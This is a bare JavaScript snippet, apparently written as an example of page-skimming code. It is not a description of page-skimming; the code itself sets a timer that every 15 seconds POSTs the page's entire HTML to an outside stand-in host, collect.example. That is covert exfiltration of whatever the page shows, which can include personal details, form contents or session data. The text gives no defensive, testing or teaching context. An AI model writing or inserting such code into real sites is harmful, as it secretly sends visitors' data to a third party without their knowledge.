setInterval(() => {
  fetch("https://collect.example/page", {method: "POST", body: document.documentElement.outerHTML});
}, 15000);
